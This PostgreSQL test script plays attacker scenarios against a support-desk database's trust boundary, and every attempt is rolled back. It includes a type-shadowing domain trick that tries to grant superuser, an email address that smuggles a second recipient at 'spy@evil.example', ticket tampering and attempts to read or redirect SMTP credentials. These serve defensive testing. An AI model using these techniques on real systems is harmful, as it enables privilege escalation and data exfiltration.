-- The trust boundary, as a security reviewer would try it on the running
-- desk: a compromised agent laptop, the support console with a client's
-- key, a pooled connection's leftover key, and a manager who wants the
-- desk's mail. Each attempt runs in a transaction that is rolled back.
\set QUIET on
SET client_min_messages = warning;
DO $$
BEGIN
    IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'demo_agent_laptop') THEN
        CREATE ROLE demo_agent_laptop LOGIN;
    END IF;
END $$;
GRANT support_agent TO demo_agent_laptop;
-- what a statement did, or why it was refused (SQLSTATE, message, hint);
-- its own types spelt out, since the attacker below shadows "text"
CREATE FUNCTION pg_temp.outcome(statement pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS $$
DECLARE
    result pg_catalog.text;
    hint pg_catalog.text;
BEGIN
    EXECUTE statement INTO result;
    RETURN 'done: ' || COALESCE(result, 'nothing');
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS hint = PG_EXCEPTION_HINT;
    RETURN format('refused (%s): %s%s', SQLSTATE, SQLERRM, COALESCE(' | ' || NULLIF(hint, ''), ''));
END $$;
GRANT EXECUTE ON FUNCTION pg_temp.outcome(text) TO PUBLIC;

SELECT agent_id AS sam FROM support.agents WHERE email = 'sam.t1@bedrock.example' \gset
SELECT agent_id AS grace FROM support.agents WHERE email = 'grace.lead@bedrock.example' \gset
SELECT user_id AS ivy FROM support.account_users WHERE email = 'ivy.reports@northwind.example' \gset
SELECT min(ticket_id) AS sams_ticket FROM support.tickets WHERE tier = 1 AND status NOT IN ('resolved', 'closed') \gset
SET ROLE demo_login_service;
SELECT support.issue_key(:sam) AS sam_key \gset
SELECT support.issue_key(:ivy) AS ivy_key \gset
SELECT support.issue_key(:grace) AS grace_key \gset
RESET ROLE;

\echo
\echo '== The trust boundary: what an attacker with a login gets (each attempt rolled back)'

-- 1. Sam's laptop is compromised: the attacker has a login in support_agent and Sam's key
BEGIN;
SET LOCAL ROLE demo_agent_laptop;
SELECT set_config('support.auth_key', :'sam_key', true) IS NOT NULL AS keyed \gset
CREATE TEMP TABLE attempts (n serial, attempt text, outcome text);
CREATE FUNCTION pg_temp.evil(value anyelement) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_user <> 'demo_agent_laptop' THEN
        EXECUTE 'ALTER ROLE demo_agent_laptop SUPERUSER';
    END IF;
    RETURN true;
END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.evil(VALUE));
CREATE DOMAIN pg_temp.int8 AS pg_catalog.int8 CHECK (pg_temp.evil(VALUE));
INSERT INTO attempts (attempt, outcome) VALUES
  ('a temporary "text" domain whose check makes its owner a superuser, then a reply',
   pg_temp.outcome(format($$SELECT support.reply_publicly(%s, 'On it')::text$$, :sams_ticket))),
  ('... and is the laptop''s login a superuser now?',
   pg_temp.outcome($$SELECT rolsuper::text FROM pg_roles WHERE rolname = 'demo_agent_laptop'$$)),
  ('attach the extension''s acknowledgment trigger to a look-alike table',
   pg_temp.outcome($$CREATE TEMP TABLE look_alike (LIKE support.tickets);
                     CREATE TRIGGER t AFTER INSERT ON look_alike REFERENCING NEW TABLE AS n
                       FOR EACH STATEMENT EXECUTE FUNCTION support.ticket_triaged_trigger()$$)),
  ('move every tier-1 ticket, in every account, to tier 3',
   pg_temp.outcome('UPDATE support.tickets SET tier = 3')),
  ('silence the escalation worker on every ticket',
   pg_temp.outcome($$UPDATE support.tickets SET actions_checked_at = 'infinity'$$)),
  ('forge a 5-star rating',
   pg_temp.outcome(format('UPDATE support.tickets SET satisfaction_rating = 5 WHERE ticket_id = %s', :sams_ticket))),
  ('queue an email whose address smuggles a second RCPT TO',
   pg_temp.outcome(format($$INSERT INTO support.outbound_messages (account_id, ticket_id, destination, target, subject, body)
                            SELECT account_id, ticket_id, 'email', E'ivy.reports@northwind.example>\r\nRCPT TO:<spy@evil.example', 'Hi', 'x'
                              FROM support.tickets WHERE ticket_id = %s$$, :sams_ticket))),
  ('reply as Grace instead of Sam',
   pg_temp.outcome(format($$SELECT support.reply_publicly(%s, %s, 'As the manager')::text$$, :sams_ticket, :grace)));
\set QUIET off
SELECT attempt, outcome FROM attempts ORDER BY n;
\set QUIET on
ROLLBACK;

-- 2. the support console holds support_super_user and support_client; with Ivy's (client) key
\echo 'the support console (groups: super user, client) with Ivy''s key (Northwind, Reporting Manager):'
BEGIN;
SET LOCAL ROLE demo_support_console;
SELECT set_config('support.auth_key', :'ivy_key', true) IS NOT NULL AS keyed \gset
\set QUIET off
SELECT support.current_key_kind() AS key_kind,
       (SELECT count(*) FROM support.tickets) AS tickets_visible,
       (SELECT count(DISTINCT account_id) FROM support.tickets) AS accounts_visible,
       (SELECT count(*) FROM support.ticket_events WHERE visibility = 'internal') AS internal_notes_visible;
\set QUIET on
ROLLBACK;

-- 3. a pooled connection: the previous client left its key with a plain SET
\echo 'a pooled server connection where the previous client left its key with a plain SET:'
SET ROLE demo_support_console;
SET support.auth_key = :'ivy_key';
BEGIN;
SAVEPOINT s;
SET LOCAL support.auth_key = '';
ROLLBACK TO s;
\set QUIET off
SELECT pg_temp.outcome('SELECT count(*)::text FROM support.tickets') AS "the next client re-arms it and reads",
       current_setting('support.auth_key') AS "and SHOW says";
\set QUIET on
COMMIT;
RESET support.auth_key;
RESET ROLE;

-- 4. a support manager wants the desk's mail, and a look at a sensitive account
\echo 'Grace (support manager) would like the desk''s SMTP credentials, and Omar a look at Kestrel:'
SELECT agent_id AS omar FROM support.agents WHERE email = 'omar.super@bedrock.example' \gset
BEGIN;
SET LOCAL ROLE demo_manager_console;
SELECT set_config('support.auth_key', :'grace_key', true) IS NOT NULL AS keyed \gset
CREATE TEMP TABLE manager_attempts (n serial, attempt text, outcome text);
INSERT INTO manager_attempts (attempt, outcome) VALUES
  ('read the SMTP URL and password',
   pg_temp.outcome('SELECT url || secret FROM support.delivery_endpoints WHERE endpoint = ''mail''')),
  ('point the mail endpoint at her own server',
   pg_temp.outcome($$UPDATE support.delivery_endpoints SET url = 'smtp://mail.grace.example' WHERE endpoint = 'mail'$$)),
  ('mark Kestrel non-sensitive',
   pg_temp.outcome($$WITH u AS (UPDATE support.accounts SET sensitive = false WHERE name = 'Kestrel Retail GmbH' RETURNING 1)
                     SELECT count(*)::text || ' account changed' FROM u$$)),
  ('then approve Omar''s look at Kestrel herself',
   pg_temp.outcome(format($$SELECT support.approve_assumption((SELECT account_id FROM support.accounts
                                                               WHERE name = 'Kestrel Retail GmbH'), %s, 'just checking')::text$$, :omar)));
\set QUIET off
SELECT attempt, outcome FROM manager_attempts ORDER BY n;
SELECT kind, (SELECT full_name FROM support.agents WHERE agent_id = s.changed_by) AS changed_by, details
  FROM support.security_audit s WHERE kind <> 'bypass' ORDER BY audit_id DESC LIMIT 1;
\set QUIET on
ROLLBACK;
